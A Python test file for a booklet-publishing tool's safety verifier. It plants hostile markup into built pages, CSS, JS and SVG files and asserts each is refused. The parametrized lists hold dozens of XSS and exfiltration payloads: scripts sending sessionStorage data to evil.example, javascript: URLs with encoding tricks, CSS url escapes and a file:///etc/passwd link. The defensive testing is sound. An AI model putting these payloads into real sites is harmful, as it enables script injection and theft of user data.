"""The verifier is the last wall: crafted pages, stylesheets, SVGs and scripts, refused.

A real booklet is built once; each test copies it, plants one hostile construct in a
published file, and asks `verify_booklet` (what every build runs before publishing) to
refuse it. The clear-content check (`html_problems(content=True)`) is tested the same way.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import material
import pytest
from click.testing import CliRunner

from conftest import FIXTURES, ROOT, make_repo
from livret.cli import cli
from livret.outputs.site import DECRYPT_SCRIPT
from livret.protect.allowlist import check_svg, css_problems, html_problems
from livret.verify import UnsafeBooklet, verify_booklet

SLUG = "2026-martin-lucie"
THEME_DIRS = [ROOT / "theme" / "material", Path(material.__file__).parent / "templates"]


@pytest.fixture(scope="module")
def booklet(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    base = tmp_path_factory.mktemp("verificateur")
    repo = make_repo(base / "repo", {SLUG: FIXTURES / "minimal"})
    store = base / "acces.json"
    result = CliRunner(env={"LIVRET_ACCESS": str(store)}).invoke(cli, ["-C", str(repo), "build"])
    assert result.exit_code == 0, result.output
    access = json.loads(store.read_text())["livrets"][SLUG]
    folder = repo / "site" / access["booklet_id"]
    UNLOCK[DECRYPT_SCRIPT] = (folder / DECRYPT_SCRIPT).read_bytes()
    return folder, access["passphrase"]


UNLOCK: dict[str, bytes] = {}  # the unlock script as the build wrote it


def _verify(folder: Path, passphrase: str) -> None:
    verify_booklet(folder, ["Lucie Martin"], passphrase, THEME_DIRS, UNLOCK)


@pytest.fixture
def copy(booklet: tuple[Path, str], tmp_path: Path) -> tuple[Path, str]:
    folder, passphrase = booklet
    target = tmp_path / folder.name
    shutil.copytree(folder, target)
    return target, passphrase


def test_the_real_booklet_passes(copy: tuple[Path, str]) -> None:
    _verify(*copy)


# Planted just before </body> of index.html (outside the ciphertext, as a bug or a hostile
# theme override would put them).
HOSTILE_SHELL = [
    '<base href="https://evil.example/">',
    '<input type="image" src="https://evil.example/x.png">',
    '<video poster="https://evil.example/p.png"></video>',
    '<img src="https:/\\evil.example/x.png">',
    '<img src="https:evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="\\\\evil.example/x.png">',
    '<img src="&#104;ttps://evil.example/x.png">',
    '<img SRC="HTTPS://EVIL.EXAMPLE/X.PNG">',
    '<img src=" https://evil.example/x.png">',
    '<img srcset="assets/images/favicon.png 1x, https://evil.example/x.png 2x">',
    '<img src="../../../etc/x.png">',
    '<picture><source srcset="https://evil.example/x.webp"></picture>',
    '<link rel="prefetch" href="//evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="dns-prefetch" href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta name="description" content="x">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="about:blank"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="https://evil.example/">x</a>',
    '<a href="x.html" ping="https://evil.example/">x</a>',
    '<form action="https://evil.example/"><input></form>',
    '<button formaction="https://evil.example/">x</button>',
    '<div onclick="alert(1)">x</div>',
    '<body onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>',
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext>x</mtext></math>",
    "<script>alert(1)</script>",
    "<script>fetch('https://evil.example/'+sessionStorage.key(0))</script>",
    '<script src="https://evil.example/a.js"></script>',
    '<script src="../../a.js"></script>',
    '<script src="assets/stylesheets/livret.css"></script>',
    '<script type="module">import("https://evil.example/")</script>',
    '<script type="application/json" id="autre">{}</script>',
    '<script id="__config" type="application/json">{pas du json</script>',
    "<style>@import url(https://evil.example/a.css);</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<style>body{background:u\\72l(https://evil.example/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    "<div style=\"background-image:image-set('https://evil.example/x.png' 1x)\">x</div>",
    "<noscript><img src=x></noscript>",
    "<template><img src=x></template>",
]


@pytest.mark.parametrize("planted", HOSTILE_SHELL)
def test_verifier_refuses_planted_markup(copy: tuple[Path, str], planted: str) -> None:
    folder, passphrase = copy
    page = folder / "index.html"
    page.write_text(page.read_text().replace("</body>", planted + "</body>"))
    with pytest.raises(UnsafeBooklet, match=r"index\.html"):
        _verify(folder, passphrase)


@pytest.mark.parametrize(
    ("path", "addition"),
    [
        ("assets/stylesheets/livret.css", "\n@import url(https://evil.example/a.css);\n"),
        ("assets/stylesheets/livret.css", "\nbody{background:url(//evil.example/x)}\n"),
        ("assets/stylesheets/livret.css", "\nbody{background:url('../../../x.png')}\n"),
        ("assets/javascripts/livret.js", "\nfetch('https://evil.example/');\n"),
        ("assets/javascripts/livret.js", "\n"),  # one byte more: not ours any more
        ("assets/javascripts/decrypt-contents.js", "\n// changed\n"),
        ("assets/javascripts/nouveau.js", "console.log(1)"),
        ("assets/logo.svg", None),
    ],
)
def test_verifier_refuses_changed_assets(
    copy: tuple[Path, str], path: str, addition: str | None
) -> None:
    folder, passphrase = copy
    target = folder / path
    if addition is None:
        target.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    else:
        target.write_text((target.read_text() if target.exists() else "") + addition)
    with pytest.raises(UnsafeBooklet, match=path.rsplit("/", 1)[-1].replace(".", r"\.")):
        _verify(folder, passphrase)


HOSTILE_CONTENT = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/x.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    '<p onmouseover="alert(1)">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"></form>',
    "<svg><script>alert(1)</script></svg>",
    '<div style="background:url(https://evil.example/x)">x</div>',
]


@pytest.mark.parametrize("fragment", HOSTILE_CONTENT)
def test_clear_content_check_refuses(fragment: str) -> None:
    assert html_problems(f"<h1>Titre</h1>{fragment}", "index.html", content=True)


def test_clear_content_check_accepts_what_we_write() -> None:
    fragment = (
        '<h1>Titre</h1><p><a href="https://www.francetravail.fr/" rel="noopener noreferrer" '
        'target="_blank">France Travail</a> <a href="mailto:a@example.org">écrire</a> '
        '<a href="plan-action.html#etape-1">plan</a> <a href="ab2cdefgh3ijklmn.pdf">PDF</a></p>'
        '<img alt="" src="data:image/png;base64,iVBORw0KGgo=">'
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" role="img">'
        "<title>t</title><rect x='1' y='1' width='2' height='2' fill='#123456'/></svg>"
        '<input type="checkbox" data-livret-etape="1">'
    )
    assert html_problems(fragment, "index.html", content=True) == []


@pytest.mark.parametrize(
    "svg",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect onclick="x" width="1" height="1"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        '<a x:href="https://evil.example/"><text>x</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        '<use x:href="https://evil.example/a.svg#b"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://e.example/a.css);'
        "</style></svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://e.example/#a)"/>'
        "</svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://e.example/#a)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="x"/></svg>',
        '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
        "<svg><rect/></svg>",  # not in the SVG namespace: not an SVG
        "pas du tout du SVG",
    ],
)
def test_svg_allowlist_refuses(svg: str) -> None:
    assert check_svg(svg.encode())


def test_svg_allowlist_accepts_a_plain_logo() -> None:
    assert check_svg((ROOT / "theme" / "logo.svg").read_bytes()) == []
    inkscape = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape='
        '"http://www.inkscape.org/namespaces/inkscape" xmlns:x="http://www.w3.org/1999/xlink">'
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
        '<g inkscape:label="calque"><rect fill="url(#g)" width="4" height="4"/>'
        '<use x:href="#g"/></g></svg>'
    )
    assert check_svg(inkscape.encode()) == []


def test_css_allows_data_images_and_own_files_only() -> None:
    ok = "a{background:url(data:image/svg+xml;charset=utf-8,%3Csvg%3E)} b{mask:url(#m)}"
    assert css_problems(ok, base="assets/stylesheets/x.css") == []
    assert css_problems("a{background:url(../images/favicon.png)}", base="assets/s/x.css") == []
    assert css_problems("a{background:url(../../../x.png)}", base="assets/s/x.css")


@pytest.mark.parametrize(
    "planted",
    ["<script>alert(1)</script>", '<img src="https:evil.example/x.png">', '<p onclick="x">a</p>'],
)
def test_site_root_page_is_held_to_the_allowlist(tmp_path: Path, planted: str) -> None:
    repo = make_repo(tmp_path / "repo", {SLUG: FIXTURES / "minimal"})
    page = repo / "theme" / "accueil-site.html"
    page.write_text(page.read_text().replace("</body>", planted + "</body>"))
    result = CliRunner(env={"LIVRET_ACCESS": str(tmp_path / "a.json")}).invoke(
        cli, ["-C", str(repo), "build"]
    )
    assert result.exit_code == 1
    assert "accueil-site.html" in result.stderr and "publication refusée" in result.stderr
    assert not (repo / "site" / "index.html").exists()
